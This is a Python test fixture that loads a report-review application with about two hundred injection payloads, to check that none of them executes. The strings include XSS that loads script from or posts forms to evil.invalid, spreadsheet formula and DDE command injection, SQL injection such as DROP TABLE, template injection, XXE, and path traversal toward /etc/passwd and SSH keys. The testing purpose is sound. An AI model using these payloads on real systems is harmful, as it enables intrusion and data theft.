"""Two hundred texts that do harm where a program takes text for something else, and a desk that is full of them.

Script for a page, formulas for a workbook, paths, SQL, templates, control characters. Script that runs calls `pwned()` or
asks for `http://evil.invalid/`: a page that notices either has failed.
"""

from __future__ import annotations

import csv
import io
import sys
from datetime import date
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent))
import desk

from gdcore import intake, roster, samples
from gdcore.store import Store, intake_rows, queries
from gdcore.store import roster as rosters
from gdcore.store.rows import Duty, FindingFilter

YEAR = 2023
ACTOR = "=1+1<script>pwned()</script>"
EACH = 8  # payloads that one report holds in its text, and as many in its cells

SCRIPT = [
    "<script>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>", "<script src=//evil.invalid/x.js></script>",
    "<img src=x onerror=pwned()>", "<img src=x onerror='pwned()'/>", '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>", "<img src=http://evil.invalid/a.png>", "<svg onload=pwned()>",
    "<svg/onload=pwned()//", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:pwned()'>x</mi></math>", "<body onload=pwned()>", "<iframe src=javascript:pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<iframe src=http://evil.invalid/></iframe>",
    "<object data=javascript:pwned()>", "<embed src=javascript:pwned()>", "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<style>@import 'http://evil.invalid/x.css';</style>", "<style>body{background:url(http://evil.invalid/b)}</style>",
    "<base href=http://evil.invalid/>", "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<form action=http://evil.invalid/><button>提交</button></form>", "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>", "<textarea autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>", "<audio src=x onerror=pwned()>", "<marquee onstart=pwned()>",
    "<a href=javascript:pwned()>点</a>", "<a href='java&#x09;script:pwned()'>点</a>", "<a href=http://evil.invalid/>点</a>",
    "<table background=http://evil.invalid/t.png>", "<div style=background:url(http://evil.invalid/d)>", "</div></div></div>",
    "</textarea><script>pwned()</script>", "</title><script>pwned()</script>", "</style><script>pwned()</script>",
    "--><script>pwned()</script>", "]]><script>pwned()</script>", "<!--<img src='--><img src=x onerror=pwned()>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<template><script>pwned()</script></template>",
    "<x onclick=pwned()>", "<b onmouseover=pwned()>粗</b>", "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;", "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "%3Cscript%3Epwned()%3C/script%3E",
    "＜script＞pwned()＜/script＞", "\"onfocus=\"pwned()\" autofocus=\"", "' onmouseover='pwned()", "` onerror=pwned() `",
    "javascript:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "';pwned();//", "\";pwned();//",
    "\\';pwned();//", "</script><script>pwned()</script>", "${pwned()}", "`${pwned()}`", "{{constructor.constructor('pwned()')()}}",
]  # fmt: skip
MARKDOWN = [
    "[点](javascript:pwned())", "![图](http://evil.invalid/m.png)", "[点](http://evil.invalid/)", "<http://evil.invalid/>",
    "http://evil.invalid/x", "[点][1]\n[1]: javascript:pwned()", ":red[红]", ":material/delete:", ":streamlit:", ":rainbow[虹]",
    ":red-background[x]", ":red-badge[x]", "$\\href{javascript:pwned()}{x}$", "$\\url{http://evil.invalid/}$",
    "$$\\includegraphics{http://evil.invalid/k.png}$$", "$\\htmlData{x=y}{z}$", "# 一级", "###### 六级", "* 点", "1. 点", "> 引",
    "`码`", "```\n码\n```", "**粗**", "__粗__", "~~删~~", "|a|b|\n|-|-|\n|1|2|", "---", "&nbsp;&lt;", "\\<script\\>", "[^1]",
    "<a href='javascript:pwned()'>图例</a>", "<br><sup>图</sup>", "%{x}<extra></extra>",
]  # fmt: skip
FORMULA = [
    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.invalid/\",\"点\")", "=WEBSERVICE(\"http://evil.invalid/\")",
    "=IMPORTXML(\"http://evil.invalid/\",\"//a\")", "=DDE(\"cmd\",\"/c calc\",\"x\")", "+1+1", "+cmd|'/c calc'!A0", "-1+1",
    "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", ";=1+1", ",=1+1", "\"=1+1", "'=1+1", "\"\"\"=1+1", "x\n=1+1", "x,=1+1", "x\",=1+1,\"",
    "{=1+1}", "=\"a\"&\"b\"", "%0A=1+1",
]  # fmt: skip
PATH = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\evil.invalid\\share",
    "file:///etc/passwd", "~/.ssh/id_rsa", "....//....//x", "..%2f..%2fx", "%2e%2e/x", "a/../../b", "CON", "NUL.txt", "a.", "a:b",
    "x\0y", ".", "..", "a" * 300, "报告.docx.exe", "|calc", "; calc", "$(calc)", "`calc`", "&& calc", "-rf", "--help", "*?<>|",
]  # fmt: skip
CODE = [
    "'; DROP TABLE report; --", "' OR '1'='1", "\" OR \"\"=\"", "1; DELETE FROM finding", "') UNION SELECT 1--", "%' OR 1=1 --",
    "_%", "\\", "{{ 7*191 }}", "{% for a in [1,2] %}{{ 7*191 }}{% endfor %}", "{{ ''.__class__.__mro__ }}", "{# 注 #}", "{%p if x %}",
    "{{r x }}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "%s%s%n", "%(x)s", "{0}{x}", "{x!r}", "{{config}}", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&xxe;", "<w:t>x</w:t>", "_x000D_", "<![CDATA[x]]>",
]  # fmt: skip
SIGNS = [
    "\u202e倒\u202c", "\u200b", "\ufeff", "a\u0301" * 40, "\x1b[31m红\x1b[0m", "\x07", "\x08", "\u2028", "\u2029", "\ud7ff", "\ufffd",
    "\U0001f4a9", "﷽" * 10,
]  # fmt: skip
PAYLOADS = (*SCRIPT, *MARKDOWN, *FORMULA, *PATH, *CODE, *SIGNS)
EVALUATED = ("1337",)  # what comes out where 7*191 was worked out


def agency(number: int) -> str:
    """The name of an agency, a payload in it."""
    return f"县{PAYLOADS[number]}局{number + 1}"


def full(store: Store) -> list[str]:
    """Fill a desk: every payload as the name of an agency and of a file, in prose, cells, and what people write.

    Most files wait for a person to say whose they are. Returns the keys of the others' agencies: their reports hold `EACH` payloads
    in their text and as many in their cells, and all of them together hold every one.
    """
    rosters.take(store, roster.parse(_roster(), "名录.csv").entries)
    files = [(f"{payload}.html", _report(number)) for number, payload in enumerate(PAYLOADS)]
    intake.run_batch(store, intake.submit(store, files, year=YEAR), workers=1, make=desk.AtOnce)
    holders = range(0, len(PAYLOADS), EACH)
    waiting = [row.intake_id for row in intake_rows.waiting(store)]  # in the order in which they came
    for number in holders:
        intake.confirm_identity(store, waiting[number], agency(number), YEAR)
    _decide(store)
    found = (rosters.find_agency(store, agency(number)) for number in holders)
    return [holder.key for holder in found if holder]


def _roster() -> bytes:
    """A line for every payload, all under one government."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["单位名称", "简称", "类型", "上级单位", "所属地区"])
    writer.writerow(["云泽县人民政府", "", "政府", "", "云泽县"])
    writer.writerows([agency(n), f"简{p}{n}", "部门", "云泽县人民政府", p] for n, p in enumerate(PAYLOADS))
    return buffer.getvalue().encode("utf-8-sig")


def _report(number: int) -> bytes:
    """A faulty report whose title is a payload; each `EACH`th holds the next `EACH` in its prose and in its cells."""
    held = PAYLOADS[number : number + EACH] if number % EACH == 0 else PAYLOADS[number : number + 1]
    sample = samples.clean("dept", YEAR, name=agency(number), seed=number)
    addresses = [address for address in sample.cells() if address.startswith("t3.")]
    change = {
        "set": dict(zip(addresses, held, strict=False)) | {"t4.review.total": "9"},
        "drop": ["s6"],
        "insert": {"s1.heading": [f"{payload}（待补充）" for payload in held]},
    }
    return samples.write(samples.apply(sample, change), "html")


def _decide(store: Store) -> None:
    """What people write: reasons, duties and notes, each payload in some of them."""
    found = queries.iter_findings(store, FindingFilter(year=YEAR))
    for row, words in zip(found, zip(PAYLOADS[::2], PAYLOADS[1::2], strict=True), strict=False):
        key, (one, other) = [row.finding.fingerprint], words
        duty = Duty(due=date(YEAR + 1, 3, 1), responsible=one, demand=other, progress=one, evidence=other, remark=one)
        queries.decide(store, key, "confirmed", ACTOR, one)
        queries.decide(store, key, "issued", other, one, duty=duty)
        queries.annotate(store, key, ACTOR, other)
